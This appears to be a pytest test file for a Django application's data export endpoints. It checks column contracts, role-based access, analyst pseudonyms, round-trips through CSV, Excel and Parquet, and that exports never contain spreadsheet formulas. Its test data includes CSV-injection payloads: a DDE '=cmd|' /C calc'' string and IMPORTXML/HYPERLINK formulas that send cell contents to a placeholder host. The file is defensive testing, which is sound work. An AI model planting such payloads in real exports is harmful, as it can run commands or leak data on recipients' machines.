"""Every list as a file: in the contract's columns, within scope, never a formula, and back."""

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest
from django.test import Client

from emptychair.programme.accounts.models import Role, Unit, User
from emptychair.programme.activity.models import Activity
from emptychair.programme.capture.models import Response
from emptychair.programme.customers.models import Contact, Customer
from emptychair.programme.exchange.listings import LISTINGS
from emptychair.programme.exchange.models import Import
from emptychair.programme.exchange.tests.conftest import RESPONSES, take_back
from emptychair.programme.lib.spreadsheets import csv_lines

pytestmark = pytest.mark.django_db

STARTS = (
    "=1+1",
    "+46701112233",
    "-5 points",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "'=1",
    "'quoted'",
)
AROUND = ("", " ", "  ", "\ufeff")
CELLS = [
    *(around + start for around in AROUND for start in STARTS),
    '=HYPERLINK("http://x.example";"click")',
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://x.example?\"; A1); \"//a\")",
    "\t=1+1",
    "\r\n=1+1".replace("\r\n", "\n"),
    "a;b,c\td|e",
    'said "fine"',
    "line one\nline two",
    "-5",
    "+45 12 34 56 78",
    "'",
    "''",
    "'=",
    "it's",
    "=",
    "@",
    "-",
    "Å ä ö Æ ø é 🙂",
    "1.234",
    "00123",
]  # fmt: skip


def out(client: Client, user: User, name: str, kind: str = "csv", **data: str) -> Any:
    client.force_login(user)
    return client.post(f"/data/export/{name}.{kind}", data)


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def rows_of(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"), newline="")))


@pytest.fixture
def answered(bring: Callable[..., Import], lund: Unit) -> None:
    Customer.objects.create(code="k1", traits={"tier": "gold"})
    bring(RESPONSES)


def test_it_exports_responses_in_the_columns_of_the_contract(
    client: Client, alice: User, answered: None
) -> None:
    found = rows_of(out(client, alice, "responses"))
    assert len(found) == 3
    first = next(row for row in found if row["score"] == "9")
    assert first["customer_id"] == "k1"
    assert first["answered_on"] == "2026-01-31"
    assert first["survey"] == "old"
    assert first["attr_tier"] == "gold"
    assert first["answered_at"].startswith("2026-01-31 11:00:00")
    made = Activity.objects.get(action="export.made")
    assert (made.subject, made.actor) == ("responses", alice.public_id)
    assert made.details == {"format": "csv", "rows": 3, "pii": True}


def test_it_exports_the_days_that_were_asked_for(
    client: Client, alice: User, answered: None
) -> None:
    found = rows_of(out(client, alice, "responses", start="2026-02-01", end="2026-02-02"))
    assert [row["score"] for row in found] == ["3"]
    assert out(client, alice, "responses", start="soon").status_code == 409


def test_it_exports_the_same_rows_as_excel_and_parquet(
    client: Client, alice: User, answered: None
) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(body(out(client, alice, "responses", "xlsx")))).active
    table = pq.read_table(io.BytesIO(body(out(client, alice, "responses", "parquet"))))
    header = [cell.value for cell in sheet[1]]
    assert header == table.column_names
    assert sheet.max_row - 1 == table.num_rows == 3
    assert str(table.schema.field("answered_at").type) == "timestamp[us, tz=UTC]"


def test_it_shows_a_manager_the_own_unit_only(client: Client, bob: User, answered: None) -> None:
    assert {row["unit"] for row in rows_of(out(client, bob, "responses"))} == {"malmo"}
    assert out(client, bob, "customers").status_code == 403


def test_it_gives_an_analyst_a_pseudonym_that_stays_the_same(
    client: Client, make_user: Callable[..., User], answered: None
) -> None:
    analyst = make_user(Role.ANALYST)
    found = rows_of(out(client, analyst, "responses"))
    again = rows_of(out(client, analyst, "responses"))
    named = {row["customer_id"] for row in found if row["customer_id"]}
    assert named == {row["customer_id"] for row in again if row["customer_id"]}
    assert len(named) == 2
    assert not named & {"k1", "k2"}


def test_it_gives_names_to_those_who_may_know(client: Client, alice: User) -> None:
    customer = Customer.objects.create(code="k1")
    Contact.objects.create(customer=customer, name="Anna", email="anna@example.se", phone="+46 70")
    (row,) = rows_of(out(client, alice, "customers"))
    assert (row["name"], row["email"], row["phone"]) == ("Anna", "anna@example.se", "'+46 70")


MAY = {
    "responses": {Role.ADMIN, Role.OWNER, Role.ANALYST, Role.MANAGER},
    "customers": {Role.ADMIN, Role.OWNER},
    "values": {Role.ADMIN, Role.OWNER},
    "events": {Role.ADMIN, Role.OWNER},
    "invitations": {Role.ADMIN, Role.OWNER, Role.ANALYST},
    "units": {Role.ADMIN, Role.OWNER, Role.ANALYST},
    "imports": {Role.ADMIN, Role.OWNER},
}


@pytest.mark.parametrize("role", list(Role))
def test_it_lets_each_role_take_out_what_it_may(
    role: Role, client: Client, make_user: Callable[..., User], malmo: Unit
) -> None:
    assert set(MAY) == set(LISTINGS)
    user = make_user(role, malmo)
    for name, roles in MAY.items():
        for kind in ("csv", "xlsx", "parquet"):
            response = out(client, user, name, kind)
            assert response.status_code == (200 if role in roles else 403), (name, kind)
            if role in roles:
                body(response)


def test_it_has_no_other_lists_or_formats(client: Client, alice: User) -> None:
    assert out(client, alice, "users").status_code == 404
    assert out(client, alice, "responses", "pdf").status_code == 404
    client.force_login(alice)
    assert client.get("/data/export/responses.csv").status_code == 405


@pytest.mark.parametrize("kind", ["csv", "xlsx", "parquet"])
def test_it_writes_no_formula_and_reads_every_text_back(
    kind: str, client: Client, bring: Callable[..., Import], alice: User
) -> None:
    assert len(CELLS) >= 60
    rows = [["2026-01-01", number % 11, cell] for number, cell in enumerate(CELLS)]
    first = bring("".join(csv_lines(["date", "score", "comment"], rows)))
    assert sorted(Response.objects.values_list("comment", flat=True)) == sorted(CELLS)
    data = body(out(client, alice, "responses", kind))
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert not [cell for row in sheet for cell in row if cell.data_type == "f"]
    take_back(first, alice)
    bring(data, name=f"back.{kind}")
    assert sorted(Response.objects.values_list("comment", flat=True)) == sorted(CELLS)


def test_it_moves_customers_from_one_installation_to_another(
    client: Client, bring: Callable[..., Import], alice: User, malmo: Unit
) -> None:
    content = "customer_id,name,email,phone,country,unit,contactable,created_at,attr_tier\n"
    content += "k1,Anna,anna@example.se,+46 70,SE,malmo,no,2020-05-01T10:00:00Z,gold\n"
    first = bring(content, "customers")
    before = Customer.objects.get()
    data = body(out(client, alice, "customers"))
    take_back(first, alice)
    bring(data, "customers")
    after = Customer.objects.get()
    for name in ("code", "country", "unit", "contactable", "created_at", "traits"):
        assert getattr(before, name) == getattr(after, name), name
    assert after.contact.phone == "+46 70"
